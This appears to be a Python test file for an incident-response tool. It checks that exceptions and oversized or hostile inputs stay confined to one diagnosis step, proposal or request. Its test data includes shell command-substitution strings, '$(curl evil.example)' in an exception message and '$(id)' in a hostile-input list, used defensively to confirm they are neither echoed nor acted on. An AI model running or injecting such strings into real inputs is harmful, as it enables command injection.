"""A bug, or something monstrous, costs one step, one proposal or one request: and it is said there."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from incidentcommander.actions import all_actions
from incidentcommander.actions.annotations import LAST_APPLIED
from incidentcommander.api.base import GROUP, parse_duration
from incidentcommander.checks import all_checks
from incidentcommander.checks.careful import Careful
from incidentcommander.checks.ranges import LONGEST, parse_range, ranges
from incidentcommander.core.diagnosis.runbooks import problems
from incidentcommander.core.remediation import proposals
from incidentcommander.core.requests import handling
from incidentcommander.faults import fault
from tests.support import build
from tests.support.play import Play

BOTH: list[dict[str, Any]] = [
    {"name": "undo", "rolloutUndo": {}, "when": [{"step": "errors", "verdict": "Failed"}]},
    {
        "name": "more",
        "scale": {"by": 1, "max": 9},
        "when": [{"step": "errors", "verdict": "Failed"}],
    },
]


def bug(*_: object, **__: object) -> Any:
    raise RecursionError("this text repeats what ed wrote: $(curl evil.example)")


def played(**spec: Any) -> Play:
    play = Play()
    play.shelf.books = [build.runbook(spec=spec)]
    return play.tick()


def offered(play: Play) -> dict[str, tuple[bool, list[str]]]:
    return {
        p.remediation: (p.blocked, [g.name for g in p.guards if g.verdict == "Block"])
        for p in play.status.proposals
    }


def test_a_bug_while_one_check_is_judged_is_the_error_of_that_step(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    found = all_checks()["errorRate"]
    assert isinstance(found, Careful)
    monkeypatch.setattr(type(found.check), "judge", bug)

    play = Play().tick()

    assert play.status.diagnosis is not None
    said = {f.step: (f.verdict, f.reason) for f in play.status.diagnosis.findings}
    assert said.pop("errors") == ("Error", "NotJudged")
    assert said
    assert "Error" not in {verdict for verdict, _ in said.values()}
    message = next(f.message for f in play.status.diagnosis.findings if f.step == "errors")
    assert message.startswith("It could not be judged: RecursionError in checks/careful.py:")
    assert "evil" not in message


@pytest.mark.parametrize("method", ["needs", "problems"])
def test_a_bug_elsewhere_in_one_check_costs_that_check(
    method: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    found = all_checks()["errorRate"]
    assert isinstance(found, Careful)
    monkeypatch.setattr(type(found.check), method, bug)

    play = Play().tick()

    assert play.status.diagnosis is not None
    if method == "needs":
        assert [f.verdict for f in play.status.diagnosis.findings if f.step == "errors"] == [
            "Error"
        ]
    else:
        assert any("could not be judged: RecursionError" in p for p in problems(build.runbook()))


@pytest.mark.parametrize("method", ["plan", "depends_on", "write"])
def test_a_bug_while_one_remediation_is_planned_leaves_the_others(
    method: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(type(all_actions()["rolloutUndo"]), method, bug)

    play = played(remediation=BOTH)

    assert offered(play) == {"undo": (True, ["NotPlanned"]), "more": (False, [])}
    undo = next(p for p in play.status.proposals if p.remediation == "undo")
    assert "It could not be planned: RecursionError in " in undo.guards[0].message
    assert not undo.recommended
    assert play.phase == "AwaitingApproval"


def test_what_could_not_be_planned_cannot_be_approved_and_stays_as_it_is(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(type(all_actions()["rolloutUndo"]), "plan", bug)
    play = played(remediation=BOTH)
    before = play.status.proposals

    play.after(seconds=30)
    assert [p.id for p in play.status.proposals] == [p.id for p in before]
    play.annotate({f"{GROUP}/approve": play.open("undo"), f"{GROUP}/approve-by": "alice"})
    play.tick()

    assert play.world.changes == []
    assert play.phase == "AwaitingApproval"
    assert "a guard blocks that proposal" in play.last("RequestRefused")


def test_a_bug_while_one_proposal_is_made_leaves_the_others(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    breaker = proposals.breaker  # type: ignore[attr-defined]

    def broken(case: Any, live: Any, planned: Any) -> Any:
        return (
            bug()
            if planned.action == "rolloutUndo" and planned.command
            else breaker(case, live, planned)
        )

    monkeypatch.setattr(proposals, "breaker", broken)

    assert offered(played(remediation=BOTH)) == {
        "undo": (True, ["NotPlanned"]),
        "more": (False, []),
    }


def test_a_bug_while_one_request_is_answered_refuses_that_request(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setitem(handling._HANDLERS, "note", bug)
    play = Play().tick()

    play.annotate({f"{GROUP}/note": "hello", f"{GROUP}/note-by": "ed"})
    play.annotate({f"{GROUP}/acknowledge": "me", f"{GROUP}/acknowledge-by": "alice"})
    play.tick()

    assert "it could not be taken: RecursionError in " in play.last("RequestRefused")
    assert "IncidentAcknowledged" in play.reasons


# --- monstrous input -----------------------------------------------------------------------------


def test_ed_nests_120000_brackets_and_the_incident_goes_on() -> None:
    play = Play()
    play.world.edit(metadata={"annotations": {LAST_APPLIED: "[" * 120_000}})
    play.shelf.books = [build.runbook(spec={"remediation": BOTH})]
    play.tick()

    assert play.phase == "AwaitingApproval"
    assert set(offered(play)) == {"undo", "more"}


MONSTROUS = [
    "99999999999999999999y",
    "9" * 1900 + "y",
    "9" * 1900 + "ms",
    "1y1y",
    "8784h",
    "9999999999999ms",
]


@pytest.mark.parametrize("text", MONSTROUS)
@pytest.mark.parametrize("query", ["rate(x[{}])", "x # [{}]", "rate(x[{}:1m])", "rate(x[ {} ])"])
def test_a_range_beyond_a_year_is_a_problem_of_its_field(query: str, text: str) -> None:
    check = {"name": "a", "promQL": {"query": query.format(text), "max": 1}}
    book = build.runbook(spec={"diagnosis": [check], "remediation": [], "verification": {}})

    assert parse_range(text) == LONGEST
    found = problems(book)
    assert found
    assert found[0].startswith("spec.diagnosis[0].promQL.query: ")
    # Named all the same, it does not hinder anybody.
    play = Play(spec={"runbookRef": {"name": book.metadata.name}})
    play.shelf.books = [book]
    assert play.tick().phase == "Investigating"
    assert "cannot be used" in (play.status.stalled or "")


@given(st.text(alphabet="[]0123456789smhdwy: .", max_size=200) | st.text(max_size=50))
def test_ranges_are_bounded_whatever_stands_in_a_query(text: str) -> None:
    assert all(found <= LONGEST for found in ranges(text))


@given(st.text(alphabet="0123456789.smh", max_size=32))
@example("999999h" * 4)
def test_durations_are_bounded_whatever_their_text(text: str) -> None:
    try:
        found = parse_duration(text)
    except ValueError:
        return
    # Added to a time, or taken from it, nothing overflows: not even twenty of them.
    assert build.NOW - 20 * found < build.NOW + 20 * found + timedelta(1)


HOSTILE = st.text(max_size=40) | st.sampled_from(
    ["[" * 5000, "\x1b[31m", "$(id)", "\ud7ff", "{{ x }}", "9" * 400, "-1", "1e999", "null", "{}"]
)
KEYS = st.sampled_from(
    [
        LAST_APPLIED,
        "kubernetes.io/change-cause",
        "meta.helm.sh/release-name",
        "argocd.argoproj.io/tracking-id",
        "deployment.kubernetes.io/revision",
        f"{GROUP}/applied",
        f"{GROUP}/no-rollback",
        "x",
    ]
)


@settings(deadline=None, max_examples=60)
@given(st.dictionaries(KEYS, HOSTILE, max_size=4), st.dictionaries(KEYS, HOSTILE, max_size=3))
def test_whatever_ed_writes_into_annotations_the_round_ends(
    notes: dict[str, str], in_template: dict[str, str]
) -> None:
    play = Play()
    play.world.edit(
        metadata={"annotations": notes},
        spec={"template": {"metadata": {"annotations": in_template}}},
    )
    play.shelf.books = [build.runbook(spec={"remediation": BOTH})]
    play.tick()

    assert play.phase in {"AwaitingApproval", "Investigating"}
    assert "NotPlanned" not in str(offered(play))


def test_a_fault_names_the_class_and_the_place_and_nothing_that_was_read() -> None:
    with pytest.raises(ValueError, match="evil") as caught:
        parse_duration("evil")
    assert fault(caught.value).startswith("ValueError in api/base.py:")
